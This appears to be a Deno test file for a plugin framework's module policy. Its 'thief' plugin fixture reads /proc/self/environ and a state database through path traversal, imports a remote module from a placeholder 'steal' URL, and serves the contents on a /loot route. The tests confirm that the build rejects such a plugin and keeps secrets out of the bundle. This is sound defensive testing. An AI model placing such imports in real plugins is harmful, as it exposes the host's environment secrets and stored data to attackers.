/**
 * Attack: a customer plugin whose router imports files the host must keep — the process
 * environment (`/proc/self/environ`), the SQLite state (`../../../honeyframe.db`), `/etc/passwd` —
 * as text, and a remote module. Before the module policy the build was green, the bundler inlined
 * those files into `dist/`, and Deno read them at run time despite the revoked `read`. Now the
 * build refuses the plugin before importing or bundling any of it, and a server refuses a registry
 * the policy did not check.
 */
import assert from "node:assert/strict";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import process from "node:process";
import { workerHandler } from "../../src/adapters/worker/mod.ts";
import { bundle } from "../../src/build/bundle.ts";
import { serverLaunchFlags } from "../../src/env/mod.ts";
import { buildServerEntry } from "../helpers/build.ts";
import { codes } from "../helpers/problems.ts";
import { makeTree, manifest, pingRouter } from "../helpers/tree.ts";

/** What the state file holds: the thief wants it in its bundle. */
const STATE_MARKER = "state-row-the-thief-wants-6f1c";
/** A secret of the build's environment. */
const ENV_MARKER = "build-env-secret-the-thief-wants-93ab";

function thiefTree() {
  return makeTree({
    "data/honeyframe.db": STATE_MARKER,
    "data/plugins/thief/plugin.yaml": manifest("thief", "routers:", "  - r.ts:router"),
    "data/plugins/thief/r.ts": `import { Hono } from "hono";
const environ = await import("file:///proc/self/environ", { with: { type: "text" } });
const state = await import("../../honeyframe.db", { with: { type: "text" } });
const remote = await import("https://example.invalid/steal.ts");
export const router = new Hono()
  .get("/loot", (c) => c.text(environ.default + state.default + String(remote)));
`,
    "data/plugins/ok/plugin.yaml": manifest("ok", "routers:", "  - r.ts:router"),
    "data/plugins/ok/r.ts": pingRouter("ok"),
  });
}

Deno.test("a plugin importing /proc/self/environ and the state file as text builds red, and nothing of either reaches the registry or the bundle", async () => {
  using tree = thiefTree();
  process.env.HONEYFRAME_TEST_LOOT = ENV_MARKER;
  try {
    const entry = await buildServerEntry(tree.root);
    const registry = readFileSync(join(tree.root, "gen/registry.ts"), "utf8");
    assert.match(registry, /"thief"/);
    assert.match(registry, /"module\.outside_plugin"/);
    assert.match(registry, /"module\.remote"/);
    assert.doesNotMatch(registry, /thief\/r\.ts/, "the thief's code is not imported");
    const output = join(tree.root, "server.js");
    bundle({ entry, output });
    const bundled = readFileSync(output, "utf8");
    assert.ok(!bundled.includes(STATE_MARKER), "the state file is not in the bundle");
    assert.ok(!bundled.includes(ENV_MARKER), "the environment is not in the bundle");
  } finally {
    delete process.env.HONEYFRAME_TEST_LOOT;
  }
});

Deno.test("the thief's problems name its file, line and column", async () => {
  using tree = thiefTree();
  const { buildRegistry } = await import("../../src/build/mod.ts");
  const { plugins } = await buildRegistry({
    installDir: tree.root,
    dataDir: join(tree.root, "data"),
    outFile: join(tree.root, ".gen/registry.ts"),
  });
  const thief = plugins.find((plugin) => plugin.name === "thief")!;
  assert.equal(thief.status, "error");
  assert.deepEqual(codes(thief.errors), [
    "module.outside_plugin",
    "module.outside_plugin",
    "module.remote",
  ]);
  assert.deepEqual(
    thief.errors.map((error) => `${error.file}:${error.line}:${error.column}`),
    ["r.ts:2:30", "r.ts:3:28", "r.ts:4:29"],
  );
  assert.equal(plugins.find((plugin) => plugin.name === "ok")!.status, "mounted");
});

Deno.test("a server refuses to start on a registry the module policy did not check", async () => {
  using tree = makeTree({
    "data/plugins/ok/plugin.yaml": manifest("ok", "routers:", "  - r.ts:router"),
    "data/plugins/ok/r.ts": pingRouter("ok"),
  });
  const entry = await buildServerEntry(tree.root);
  const registryFile = join(tree.root, "gen/registry.ts");
  const checked = readFileSync(registryFile, "utf8");
  assert.match(checked, /\n {2}modulePolicy: 1,\n/);
  writeFileSync(registryFile, checked.replace(/\n {2}modulePolicy: 1,\n/, "\n"));
  const env = { DATA_DIR: join(tree.root, "data"), PORT: "0", HOST: "127.0.0.1" };
  const run = await new Deno.Command(Deno.execPath(), {
    args: ["run", ...serverLaunchFlags(env), "--config", "deno.json", entry],
    env,
    clearEnv: true,
    stdout: "piped",
    stderr: "piped",
  }).output();
  const said = new TextDecoder().decode(run.stderr) + new TextDecoder().decode(run.stdout);
  assert.equal(run.code, 1, said);
  assert.match(said, /cannot start: the registry was not built with the module policy/);
  assert.doesNotMatch(said, /listening on/);

  const { registry } = await import(`${new URL(`file://${registryFile}`).href}`);
  const response = await workerHandler(registry, { dropPrivileges: false }).fetch(
    new Request("http://localhost/api/ok/ping"),
  );
  assert.equal(response.status, 500);
  assert.equal((await response.json()).error, "misconfigured");
});

Deno.test("every server launch refuses prompts and remote modules", () => {
  const flags = serverLaunchFlags({});
  assert.ok(flags.includes("--no-prompt") && flags.includes("--no-remote"), flags.join(" "));
  const tasks = JSON.parse(readFileSync("deno.json", "utf8")).tasks as Record<string, string>;
  for (const [name, command] of Object.entries(tasks)) {
    for (const run of command.split("&&").filter((part) => / run /.test(part))) {
      assert.match(run, /--no-prompt/, `deno task ${name}: ${run.trim()}`);
    }
  }
  const entrypoint = readFileSync("container/entrypoint.sh", "utf8");
  assert.match(entrypoint, /exec "\$deno" run --no-prompt --no-remote/);
});
